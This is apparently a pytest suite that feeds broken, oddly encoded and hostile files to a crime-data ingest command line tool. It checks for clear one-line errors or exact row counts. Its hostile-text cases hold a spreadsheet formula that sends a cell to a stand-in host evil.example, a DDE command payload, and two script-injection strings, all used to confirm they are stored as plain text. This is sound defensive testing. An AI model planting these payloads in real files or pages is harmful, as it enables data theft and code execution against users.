"""Hostile input: every broken, odd or malicious file ends in a clear one-line error or an exact import.

Each file is made here (tmp_path) and run through the command line as a subprocess
(`python -m bridges ingest FILE --dataset … --data-dir DIR --json`). An error must exit non-zero
with one line on stderr that names the file and says what to do, and no traceback anywhere; an
import must account for every row (read = accepted + rejected) with the exact counts expected,
and store hostile text (formulas, HTML) as the text it is. Error cases are also run in-process
through loaders.ingest.ingest, which must raise InputError and nothing else.
"""
from __future__ import annotations

import codecs
import csv
import io
import json
import os
import random
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pyarrow as pa
import pytest

from model.errors import InputError
from loaders.ingest import ingest
from store.versioned import Store

ROOT = Path(__file__).resolve().parent.parent

HEADER = ["ID", "Case Number", "Date", "Block", "IUCR", "Primary Type", "Description", "Location Description",
          "Arrest", "Domestic", "Beat", "District", "Ward", "Community Area", "FBI Code", "X Coordinate",
          "Y Coordinate", "Year", "Updated On", "Latitude", "Longitude", "Location"]
# (Primary Type, Description, IUCR, FBI Code) taken from the real portal export; all in the chicago crosswalk
OFFENCES = [("BATTERY", "DOMESTIC BATTERY SIMPLE", "0486", "08B"), ("THEFT", "$500 AND UNDER", "0820", "06"),
            ("CRIMINAL DAMAGE", "TO VEHICLE", "1320", "14"), ("ASSAULT", "SIMPLE", "0560", "08A"),
            ("MOTOR VEHICLE THEFT", "AUTOMOBILE", "0910", "07"), ("THEFT", "RETAIL THEFT", "0860", "06")]


def chicago_row(i: int, **over) -> list[str]:
    """One record in the Chicago portal's layout (IDs from 13364090 + i)."""
    pt, desc, iucr, fbi = OFFENCES[i % len(OFFENCES)]
    lat, lon = 41.75 + (i % 97) / 1000, -87.70 + (i % 89) / 1000
    r = dict(zip(HEADER, [str(13364090 + i), f"JH{146864 + i}", f"02/{1 + i % 28:02d}/2024 {1 + i % 12:02d}:44:00 {'AM' if i % 2 else 'PM'}",
                          f"0{i % 90:02d}XX W 47TH ST", iucr, pt, desc, "APARTMENT", "false", "true" if i % 5 == 0 else "false",
                          "0925", "009", "20", "37", fbi, "1175476", "1873816", "2024", "05/17/2025 03:40:52 PM",
                          f"{lat:.9f}", f"{lon:.9f}", f"({lat:.9f}, {lon:.9f})"]))
    r.update(over)
    return [r[h] for h in HEADER]


def chicago_csv(rows: list[list[str]], delimiter: str = ",", newline: str = "\n", header: list[str] = HEADER) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def plain(n: int, start: int = 0) -> list[list[str]]:
    return [chicago_row(i) for i in range(start, start + n)]


def write(path: Path, content: str | bytes, encoding: str = "utf-8") -> Path:
    path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
    return path


def xlsx(path: Path, sheets: dict[str, list[list]], merge: str | None = None) -> Path:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for r in rows:
            ws.append(r)
        if merge:
            ws.merge_cells(merge)
    wb.save(path)
    return path


CALLS_PROFILE = """id = "calls-test"
dataset = "incidents"
title = "Calls for service (test)"
[fields.incident_id]
column = "call_id"
[fields.occurred_at]
column = "received"
format = "%Y-%m-%d %H:%M"
[fields.category]
column = "kind"
map = { "ASSAULT" = "violence", "NOISE" = "public_order" }
[fields.response_minutes]
column = "minutes"
[fields.area]
column = "zone"
"""

EVENTS_PROFILE = """id = "events-test"
dataset = "engagement"
[fields.event_id]
column = "ref"
[fields.date]
column = "day"
format = "%Y-%m-%d"
[fields.type]
column = "kind"
map = { "forum" = "community_forum", "school" = "school_program" }
[fields.title]
column = "title"
[fields.attendees]
column = "people"
"""


# ---------------------------------------------------------------- the cases
# name -> (build(tmp) -> (file, extra CLI args), dataset, expectation)
# expectation: ("error", [phrases the message must hold besides the file name])
#           or ("import", rows_read, rows_accepted, rows_rejected, check(report, rows) or None)

def _latin1(tmp: Path):
    rows = plain(5)
    rows[2] = chicago_row(2, Block="012XX RUE DE L'ÉGLISE", **{"Location Description": "CAFÉ"})
    return write(tmp / "latin1.csv", chicago_csv(rows), "latin-1"), []


def _macroman(tmp: Path):
    rows = plain(5)
    rows[1] = chicago_row(1, Block="012XX AVENUE DES ÉRABLES")
    return write(tmp / "macroman.csv", chicago_csv(rows, newline="\r"), "mac_roman"), []


def _utf16(tmp: Path):
    rows = plain(6)
    rows[0] = chicago_row(0, Block="012XX BOULEVARD SAINT-ÉTIENNE")
    return write(tmp / "utf16.csv", chicago_csv(rows, newline="\r\n"), "utf-16"), []


def _quoted_newlines(tmp: Path):
    rows = plain(4)
    rows[1] = chicago_row(1, Block="002XX W\n47TH ST", Description='SAYS "HI",\nTHEN LEFT')
    return write(tmp / "quoted_newlines.csv", chicago_csv(rows)), []


def _dups(tmp: Path):
    rows = plain(6)
    rows.append(chicago_row(1, Block="SAME ID AS ROW 3"))  # row 8 repeats the ID of row 3
    rows.append(chicago_row(4))  # row 9 repeats the ID of row 6
    return write(tmp / "duplicates.csv", chicago_csv(rows)), []


def _dates(tmp: Path):
    rows = plain(8)
    rows[0] = chicago_row(0, Date="13/45/2024 10:00:00 AM")  # no such month
    rows[1] = chicago_row(1, Date="02/30/2024 10:00:00 AM")  # no such day (Arrow would roll it to 1 March)
    rows[2] = chicago_row(2, Date="01/01/1850 10:00:00 AM")  # before 1900
    rows[3] = chicago_row(3, Date="01/01/2099 10:00:00 AM")  # in the future
    rows[4] = chicago_row(4, Date="yesterday")
    rows[5] = chicago_row(5, Date="")
    return write(tmp / "dates.csv", chicago_csv(rows)), []


def _formula(tmp: Path):
    rows = plain(5)
    rows[0] = chicago_row(0, Block='=HYPERLINK("http://evil.example/?d="&A1,"click me")')
    rows[1] = chicago_row(1, Block="+1-2")
    rows[2] = chicago_row(2, Block="@SUM(1+1)")
    rows[3] = chicago_row(3, Block="-2+3")
    return write(tmp / "formula.csv", chicago_csv(rows)), []


def _html(tmp: Path):
    rows = plain(3)
    rows[0] = chicago_row(0, Block="<script>alert('x')</script>")
    rows[1] = chicago_row(1, Block='<img src=x onerror="alert(1)"> 12XX MAIN ST')
    return write(tmp / "html.csv", chicago_csv(rows)), []


def _truncated(tmp: Path):
    text = chicago_csv(plain(10))
    return write(tmp / "truncated.csv", text[: text.rstrip("\n").rfind("\n") + 120]), []  # last record cut short


def _extra_columns(tmp: Path):
    lines = chicago_csv(plain(8)).splitlines()
    lines[3] += ",surplus,values"
    lines[6] += ",one more"
    return write(tmp / "extra_columns.csv", "\n".join(lines) + "\n"), []


def _ragged(tmp: Path):
    lines = chicago_csv(plain(8)).splitlines()
    lines[2] = ",".join(lines[2].split(",")[:7])
    lines[5] = ",".join(lines[5].split(",")[:15])
    lines[7] += ",x,y,z"
    return write(tmp / "ragged.csv", "\n".join(lines) + "\n"), []


def _stray_quote(tmp: Path):
    lines = chicago_csv(plain(6)).splitlines()
    lines[2] = lines[2].replace('"(', '"(41 no closing quote ', 1).replace(')"', ")", 1)  # record 2 swallows record 3
    return write(tmp / "stray_quote.csv", "\n".join(lines) + "\n"), []


def _calls(tmp: Path):
    (tmp / "calls.toml").write_text(CALLS_PROFILE, encoding="utf-8")
    text = ("call_id,received,kind,minutes,zone\n"
            "C1,2024-05-01 10:00,ASSAULT,12.5,North\n"
            "C2,2024-05-01 11:00,NOISE,-4,North\n"        # negative response time
            "C3,2024-05-02 09:30,NOISE,0,South\n"
            "C4,2024-05-02 09:45,ASSAULT,-0.5,South\n"    # negative response time
            "C5,2024-05-03 22:10,NOISE,,East\n")          # unknown response time: kept, empty
    return write(tmp / "calls.csv", text), ["--profile", str(tmp / "calls.toml")]


def _events(tmp: Path):
    (tmp / "events.toml").write_text(EVENTS_PROFILE, encoding="utf-8")
    text = ("ref,day,kind,title,people\n"
            "E1,2024-04-02,forum,Spring forum,40\n"
            "E2,2024-04-09,school,Bike safety,-12\n"     # a negative head count
            "E3,2024-05-10,forum,=cmd|' /C calc'!A0,15\n"  # formula in public text: stored as text
            "E4,2024-05-11,school,Reading club,2.5\n")     # not a whole number: left empty with a warning
    return write(tmp / "events.csv", text), ["--profile", str(tmp / "events.toml")]


def _several_sheets(tmp: Path):
    return xlsx(tmp / "several_sheets.xlsx", {"Crimes": [HEADER, *plain(4)], "Notes": [["note", "by"], ["checked", "ana"]]}), []


def _bad_profile(tmp: Path):
    (tmp / "broken.toml").write_text('id = "x"\ndataset = "incidents"\n[fields.incident_id\ncolumn = "ID"\n', encoding="utf-8")
    return write(tmp / "for_broken_profile.csv", chicago_csv(plain(3))), ["--profile", str(tmp / "broken.toml")]


def _profile_missing_column(tmp: Path):
    (tmp / "stale.toml").write_text(CALLS_PROFILE, encoding="utf-8")
    return write(tmp / "for_stale_profile.csv", chicago_csv(plain(3))), ["--profile", str(tmp / "stale.toml")]


CASES = {
    # ---- not a table at all
    "empty": (lambda t: (write(t / "empty.csv", b""), []), "incidents", ("error", ["empty"])),
    "whitespace": (lambda t: (write(t / "blank.csv", b"\n  \r\n\t\n"), []), "incidents", ("error", ["empty"])),
    "header_only": (lambda t: (write(t / "header_only.csv", ",".join(HEADER) + "\n"), []), "incidents", ("error", ["no records"])),
    "header_and_blank_lines": (lambda t: (write(t / "header_blank.csv", ",".join(HEADER) + "\n\n\n"), []), "incidents", ("error", ["no records"])),
    "binary_junk": (lambda t: (write(t / "junk.csv", random.Random(1).randbytes(5000)), []), "incidents", ("error", ["binary", "CSV"])),
    "high_byte_junk": (lambda t: (write(t / "noise.csv", bytes(range(128, 256)) * 40), []), "incidents", ("error", ["encoding", "UTF-8"])),
    "png": (lambda t: (write(t / "chart.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200)), []), "incidents", ("error", ["image", "CSV"])),
    "pdf": (lambda t: (write(t / "report.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"), []), "incidents", ("error", ["PDF", "Export"])),
    "old_xls": (lambda t: (write(t / "crimes.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)), []), "incidents", ("error", [".xls", "save it as .xlsx"])),
    "zip_not_xlsx": (lambda t: (write(t / "export.xlsx", b"PK\x03\x04" + bytes(100)), []), "incidents", ("error", ["workbook could not be opened", "save it again"])),
    "nonexistent": (lambda t: (t / "nowhere.csv", []), "incidents", ("error", ["no such file"])),
    "directory": (lambda t: ((t / "a_folder.csv").mkdir() or t / "a_folder.csv", []), "incidents", ("error", ["folder", "one export file"])),
    # ---- delimiters, line endings, encodings
    "semicolon": (lambda t: (write(t / "semicolon.csv", chicago_csv(plain(7), delimiter=";")), []), "incidents", ("import", 7, 7, 0, None)),
    "tab": (lambda t: (write(t / "tab.tsv", chicago_csv(plain(9), delimiter="\t")), []), "incidents", ("import", 9, 9, 0, None)),
    "single_column": (lambda t: (write(t / "one_column.csv", "just one column\nvalue a\nvalue b\n"), []), "incidents", ("error", ["only one column", "comma-separated"])),
    "cr_only": (lambda t: (write(t / "cr_only.csv", chicago_csv(plain(6), newline="\r")), []), "incidents", ("import", 6, 6, 0, None)),
    "crlf": (lambda t: (write(t / "crlf.csv", chicago_csv(plain(6), newline="\r\n")), []), "incidents", ("import", 6, 6, 0, "no_cr")),
    "bom": (lambda t: (write(t / "bom.csv", codecs.BOM_UTF8 + chicago_csv(plain(5)).encode()), []), "incidents", ("import", 5, 5, 0, None)),
    "utf16": (_utf16, "incidents", ("import", 6, 6, 0, ("block", 0, "012XX BOULEVARD SAINT-ÉTIENNE"))),
    "latin1": (_latin1, "incidents", ("import", 5, 5, 0, ("block", 2, "012XX RUE DE L'ÉGLISE"))),
    "macroman_cr": (_macroman, "incidents", ("import", 5, 5, 0, ("block", 1, "012XX AVENUE DES ÉRABLES"))),
    # ---- broken records
    "quoted_newlines": (_quoted_newlines, "incidents", ("import", 4, 4, 0, ("block", 1, "002XX W\n47TH ST"))),
    "truncated_last_line": (_truncated, "incidents", ("import", 10, 9, 1, ("reason", 11, "cut short"))),
    "extra_columns": (_extra_columns, "incidents", ("import", 8, 6, 2, ("reason", 4, "fields but the header has 22"))),
    "ragged_rows": (_ragged, "incidents", ("import", 8, 5, 3, ("reason", 3, "7 of 22 fields"))),
    "stray_quote": (_stray_quote, "incidents", ("import", 5, 4, 1, ("reason", 3, "is not closed, so it runs over 2 lines"))),
    "duplicate_ids": (_dups, "incidents", ("import", 8, 6, 2, ("reason", 8, "first seen at row 3"))),
    "bad_dates": (_dates, "incidents", ("import", 8, 2, 6, "dates")),
    "negative_minutes": (_calls, "incidents", ("import", 5, 3, 2, ("reason", 3, "'response_minutes' must be at least 0"))),
    "negative_attendees": (_events, "engagement", ("import", 4, 3, 1, ("reason", 3, "'attendees' must be at least 0"))),
    # ---- hostile text: kept as text, never evaluated
    "formula": (_formula, "incidents", ("import", 5, 5, 0, ("block", 0, '=HYPERLINK("http://evil.example/?d="&A1,"click me")'))),
    "html": (_html, "incidents", ("import", 3, 3, 0, ("block", 0, "<script>alert('x')</script>"))),
    # ---- JSON
    "json_not_records": (lambda t: (write(t / "settings.json", '{"version": 3, "codes": [1, 2, 3]}'), []), "incidents", ("error", ["no list of records", "array of objects"])),
    "json_scalars": (lambda t: (write(t / "numbers.json", "[1, 2, 3]"), []), "incidents", ("error", ["no objects with named fields", "one object per record"])),
    "json_scalar": (lambda t: (write(t / "answer.json", "42"), []), "incidents", ("error", ["no records", "array of objects"])),
    "json_invalid": (lambda t: (write(t / "broken.json", '[{"ID": "1", "Date": "x",}]'), []), "incidents", ("error", ["not valid", "line 1"])),
    # ---- workbooks
    "xlsx_several_sheets": (_several_sheets, "incidents", ("error", ["2 sheets", "--sheet"])),
    "xlsx_chosen_sheet": (lambda t: (_several_sheets(t)[0], ["--sheet", "Crimes"]), "incidents", ("import", 4, 4, 0, None)),
    "xlsx_no_such_sheet": (lambda t: (_several_sheets(t)[0], ["--sheet", "Summary"]), "incidents", ("error", ["no sheet 'Summary'", "'Crimes'"])),
    "xlsx_merged_header": (lambda t: (xlsx(t / "merged.xlsx", {"Data": [["Incident", None, "When", "Where"], ["1", "x", "2024-01-01", "here"]]}, merge="A1:B1"), []), "incidents", ("error", ["merged cells", "Unmerge"])),
    # ---- the wrong file, dataset or settings
    "wrong_dataset": (lambda t: (write(t / "chicago.csv", chicago_csv(plain(3))), []), "feedback", ("error", ["an incidents export", "--dataset incidents"])),
    "unknown_columns": (lambda t: (write(t / "mystery.csv", "Foo,Bar,Baz\n1,2,3\n4,5,6\n"), []), "incidents", ("error", ["do not match any known export", "python -m bridges inspect mystery.csv"])),
    "profile_syntax_error": (_bad_profile, "incidents", ("error", ["not valid TOML", "line 3"], "broken.toml")),
    "profile_missing": (lambda t: (write(t / "for_no_profile.csv", chicago_csv(plain(3))), ["--profile", str(t / "missing.toml")]), "incidents", ("error", ["no such profile"], "missing.toml")),
    "profile_wrong_columns": (_profile_missing_column, "incidents", ("error", ["'call_id'", "not in the file", "inspect"])),
    "quarter_garbage": (lambda t: (write(t / "for_quarter.csv", chicago_csv(plain(3))), ["--quarter", "Q5-24"]), "incidents", ("error", ["--quarter 'Q5-24'", "2026Q3"])),
}


def _cli(file: Path, dataset: str, data_dir: Path, extra: list[str]) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-m", "loaders", "ingest", str(file), "--dataset", dataset, "--data-dir", str(data_dir), "--json", *extra]
    return subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=300, env={**os.environ, "PYTHONWARNINGS": "ignore"})


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory):
    """Every case built and run through the CLI (four at a time), once for the module."""
    built = {}
    for name, (build, dataset, _) in CASES.items():
        d = tmp_path_factory.mktemp(name)
        file, extra = build(d)
        built[name] = (file, dataset, d / "store", extra)
    with ThreadPoolExecutor(max_workers=4) as pool:
        futures = {name: pool.submit(_cli, f, ds, store, extra) for name, (f, ds, store, extra) in built.items()}
        return {name: (built[name], fut.result()) for name, fut in futures.items()}


def assert_clear_error(proc: subprocess.CompletedProcess, name: str, phrases: list[str]) -> str:
    out = proc.stdout + proc.stderr
    assert "Traceback" not in out, out
    assert proc.returncode == 2, f"exit {proc.returncode} (2 = input error): {out}"  # 1 would be 'something unexpected'
    msg = proc.stderr.strip()
    assert "\n" not in msg, f"more than one line: {msg!r}"
    assert msg.startswith("error: "), msg
    assert name in msg, f"the message does not name the file {name!r}: {msg}"
    for p in phrases:
        assert p in msg, f"{p!r} not in {msg!r}"
    assert proc.stdout.strip() == "", "nothing on stdout for an error"
    return msg


def check_import(report: dict, store: Store, expect: tuple) -> None:
    _, read, accepted, rejected, check = expect
    assert (report["rows_read"], report["rows_accepted"], report["rows_rejected"]) == (read, accepted, rejected), report
    assert report["rows_read"] == report["rows_accepted"] + report["rows_rejected"]
    assert sum(report["rejection_reasons"].values()) == rejected
    assert len(report["rejections"]) == rejected and all(r["reason"] and r["row"] for r in report["rejections"])
    rows = store.draft_rows(report["draft"]).to_pandas()
    assert len(rows) == accepted == report["records_out"]
    assert rows["incident_id" if report["dataset"] == "incidents" else "event_id"].is_unique
    if check == "no_cr":
        for c in rows.columns:
            if rows[c].dtype == object:
                assert not rows[c].dropna().astype(str).str.contains("\r").any(), c
    elif check == "dates":
        by_row = {r["row"]: r["reason"] for r in report["rejections"]}
        assert set(by_row) == {2, 3, 4, 5, 6, 7}
        assert "not a date" in by_row[2] and "not a date" in by_row[3] and "not a date" in by_row[6]
        assert "out of range" in by_row[4] and "out of range" in by_row[5]
        assert "required" in by_row[7]
        assert rows["occurred_at"].min().year == 2024 and rows["occurred_at"].max().year == 2024
    elif check and check[0] == "block":
        _, position, value = check
        ids = sorted(rows["incident_id"], key=int)
        assert rows.set_index("incident_id").loc[ids[position], "block"] == value
    elif check and check[0] == "reason":
        _, row, phrase = check
        reasons = [r["reason"] for r in report["rejections"] if r["row"] == row]
        assert reasons and phrase in reasons[0], report["rejections"]


@pytest.mark.slow  # `outcomes` runs the command line once per case, in a new process each: about two minutes
@pytest.mark.parametrize("name", list(CASES))
def test_cli(outcomes, name):
    (file, dataset, data_dir, extra), proc = outcomes[name]
    expect = CASES[name][2]
    if expect[0] == "error":
        assert_clear_error(proc, expect[2] if len(expect) > 2 else file.name, expect[1])
        assert not (data_dir / "drafts").exists() or not any((data_dir / "drafts").iterdir()), "no draft for a failed ingest"
    else:
        assert proc.returncode == 0, proc.stderr
        assert "Traceback" not in proc.stdout + proc.stderr
        check_import(json.loads(proc.stdout), Store(data_dir), expect)


@pytest.mark.parametrize("name", [n for n, c in CASES.items() if c[2][0] == "error"])
def test_api_raises_input_error_only(tmp_path, name):
    build, dataset, (_, phrases, *named) = CASES[name]
    file, extra = build(tmp_path)
    opts = dict(zip(extra[::2], extra[1::2]))
    with pytest.raises(InputError) as exc:
        ingest(file, dataset, Store(tmp_path / "store"), profile=opts.get("--profile"), quarter=opts.get("--quarter"), sheet=opts.get("--sheet"))
    assert (named[0] if named else file.name) in str(exc.value)
    for p in phrases:
        assert p in str(exc.value)


def test_extra_columns_and_formula_via_api(tmp_path):
    """The in-process API gives the same accounting as the CLI."""
    for name in ("extra_columns", "formula", "duplicate_ids", "utf16"):
        build, dataset, expect = CASES[name]
        file, _ = build(tmp_path)
        store = Store(tmp_path / f"store-{name}")
        check_import(ingest(file, dataset, store), store, expect)


@pytest.mark.slow
def test_formula_kept_verbatim(outcomes):
    """Formulas are text: stored exactly as written (the export gate neutralises them later)."""
    (file, _, data_dir, _), proc = outcomes["formula"]
    rows = Store(data_dir).draft_rows(json.loads(proc.stdout)["draft"]).to_pandas()
    assert {"+1-2", "@SUM(1+1)", "-2+3", '=HYPERLINK("http://evil.example/?d="&A1,"click me")'} <= set(rows["block"])
    (file, _, data_dir, _), proc = outcomes["negative_attendees"]
    rows = Store(data_dir).draft_rows(json.loads(proc.stdout)["draft"]).to_pandas()
    assert "=cmd|' /C calc'!A0" in set(rows["title"])
    rep = json.loads(proc.stdout)
    assert any(w["column"] == "people" and "whole number" in w["reason"] for w in rep["warnings"])


@pytest.mark.slow
def test_negative_minutes_leave_good_rows_intact(outcomes):
    (_, _, data_dir, _), proc = outcomes["negative_minutes"]
    rep = json.loads(proc.stdout)
    rows = Store(data_dir).draft_rows(rep["draft"]).to_pandas().set_index("incident_id")
    assert sorted(rows.index) == ["C1", "C3", "C5"]
    assert rows.loc["C1", "response_minutes"] == 12.5 and rows.loc["C3", "response_minutes"] == 0
    assert rows["response_minutes"].isna().sum() == 1
    assert {r["row"] for r in rep["rejections"]} == {3, 5}


@pytest.mark.slow
def test_fifty_megabytes(tmp_path):
    """A ~50 MB export in Chicago's layout imports with every row accounted for, through the CLI."""
    rnd = random.Random(50)
    rest = ",".join(f'"{v}"' if "," in v else v for v in chicago_row(0)[3:])  # Block … Location
    blocks, n, size = [], 0, 0
    while size < 50 * 2**20:
        block = "".join(f"{20000000 + n + k},JX{n + k},{rnd.randint(1, 12):02d}/{rnd.randint(1, 28):02d}/2024 {rnd.randint(1, 12):02d}:{rnd.randint(0, 59):02d}:00 PM,{rest}\n"
                        for k in range(20000))
        blocks.append(block)
        size += len(block)
        n += 20000
    # one bad date and one duplicate ID in the middle, so the accounting is not trivially all-accepted
    blocks.insert(len(blocks) // 2, f"{20000000 + n},JXBAD,99/99/2024 01:00:00 PM,{rest}\n{20000000},JXDUP,01/02/2024 01:00:00 PM,{rest}\n")
    path = tmp_path / "big.csv"
    path.write_text(",".join(HEADER) + "\n" + "".join(blocks), encoding="utf-8")
    assert path.stat().st_size > 50 * 2**20
    t0 = time.perf_counter()
    proc = _cli(path, "incidents", tmp_path / "store", [])
    elapsed = time.perf_counter() - t0
    assert proc.returncode == 0, proc.stderr
    rep = json.loads(proc.stdout)
    assert (rep["rows_read"], rep["rows_accepted"], rep["rows_rejected"]) == (n + 2, n, 2)
    reasons = [r["reason"] for r in rep["rejections"]]
    assert any("(first seen at row 2)" in r for r in reasons) and any("not a date" in r for r in reasons)
    assert Store(tmp_path / "store").draft(rep["draft"])["rows"] == n
    assert elapsed < 60


@pytest.mark.slow
def test_validation_screen_agrees_with_pandera():
    """The vectorised screen in loaders.validate flags exactly the rows pandera rejects, on frames full of
    out-of-range, unknown and missing values for every dataset."""
    import numpy as np
    import pandas as pd
    import pandera.pandas as pa_

    from loaders import validate
    from model.schema import DATASETS

    rnd = np.random.default_rng(7)
    for name, ds in DATASETS.items():
        n = 400
        cols = {}
        for f in ds.fields:
            if f.type == "string":
                good = list(f.allowed) if f.allowed else (["2024Q1", "2025Q4"] if f.pattern else ["a", "b"])
                bad = ["not-allowed", "2024Q5", "", None]
                # a bad value in about 1 cell in 20, so that with many fields some rows stay clean and some do not
                vals = np.where(rnd.random(n) < 0.05, rnd.choice(np.array(bad, dtype=object), n), rnd.choice(np.array(good, dtype=object), n))
                cols[f.name] = pd.array(vals, dtype=pd.ArrowDtype(pa.string()))
            elif f.type in ("float", "int"):
                lo = f.minimum if f.minimum is not None else -50
                hi = f.maximum if f.maximum is not None else 500
                vals = rnd.uniform(lo - 20, hi + 20, n)
                vals = np.round(vals) if f.type == "int" else vals
                arr = pa.array(vals, mask=rnd.random(n) < 0.2).cast(pa.int64() if f.type == "int" else pa.float64())
                cols[f.name] = pd.array(arr, dtype=pd.ArrowDtype(arr.type))
            elif f.type == "bool":
                cols[f.name] = pd.array(pa.array(rnd.random(n) < 0.5, mask=rnd.random(n) < 0.2), dtype=pd.ArrowDtype(pa.bool_()))
            else:
                ts = pa.array(np.datetime64("2024-01-01") + rnd.integers(0, 900, n).astype("timedelta64[D]"), mask=rnd.random(n) < 0.1).cast(pa.timestamp("us"))
                cols[f.name] = pd.array(ts, dtype=pd.ArrowDtype(ts.type))
        frame = pd.DataFrame(cols)
        frame["__row__"] = np.arange(2, n + 2)
        sus = validate.suspects(frame, name)
        assert sus is not None and sus.any() and not sus.all(), name
        try:
            validate.pandera_schema(name).validate(frame, lazy=True)
            by_pandera = set()
        except pa_.errors.SchemaErrors as exc:
            by_pandera = set(exc.failure_cases["index"].dropna().astype(int))
        assert set(np.flatnonzero(sus)) == by_pandera, name
        assert set(validate.failures(frame, name, "__row__")["index"]) == by_pandera, name


def test_fast_paths_give_the_same_report(tmp_path, monkeypatch):
    """Fields worked out in parallel, and per distinct value, give exactly the report and rows of the plain
    one-field-after-another path (the fast paths switch on for long files only)."""
    import loaders.mapping as mapping

    rows = plain(400)
    rows[5] = chicago_row(5, Date="02/30/2024 10:00:00 AM")
    rows[9] = chicago_row(9, **{"Primary Type": "NEW OFFENCE", "Description": "NOT IN CROSSWALK"})
    rows[12] = chicago_row(3)
    rows[20] = chicago_row(20, Domestic="maybe", Latitude="", Longitude="", District="")
    rows[33] = chicago_row(33, ID="")
    rows[40] = chicago_row(40, Date="01/01/2099 10:00:00 AM")
    rows[41] = chicago_row(41, **{"Community Area": "007"})
    path = write(tmp_path / "mixed.csv", chicago_csv(rows))

    def run(fast: bool):
        monkeypatch.setattr(mapping, "PARALLEL_MIN_ROWS", 0 if fast else 10**12)
        monkeypatch.setattr(mapping, "UNIQUE_MIN_ROWS", 0 if fast else 10**12)
        store = Store(tmp_path / f"store-{fast}")
        rep = ingest(path, "incidents", store)
        return rep, store.draft_rows(rep["draft"])

    slow_rep, slow_rows = run(False)
    fast_rep, fast_rows = run(True)
    assert slow_rep["rows_rejected"] == 5 and slow_rep["unmapped"]
    for k in ("rows_read", "rows_accepted", "rows_rejected", "rejections", "rejection_reasons", "warnings", "unmapped", "quarters"):
        assert fast_rep[k] == slow_rep[k], k
    assert fast_rows.equals(slow_rows)
    assert set(fast_rows.column("area").to_pylist()) >= {"7", "37"}


def test_cli_never_shows_a_traceback(tmp_path, monkeypatch, capsys):
    """An unexpected failure during an ingest still ends in one line and exit 1, the detail in the data folder's log
    (the reading itself runs in a worker process: tests/test_hostile_files.py fails it there)."""
    import bridges.actions as actions_mod
    from bridges.cli import main

    def boom(*a, **k):
        raise ValueError("internal\nproblem")

    monkeypatch.setattr(actions_mod, "ingest_upload", boom)
    path = write(tmp_path / "fine.csv", chicago_csv(plain(2)))
    assert main(["ingest", str(path), "--dataset", "incidents", "--data-dir", str(tmp_path / "store")]) == 1
    err = capsys.readouterr().err.strip()
    assert "\n" not in err and "Traceback" not in err and "internal problem" in err and "Nothing was published" in err
    assert "Traceback" in (tmp_path / "store" / "logs" / "bridges-error.log").read_text(encoding="utf-8")
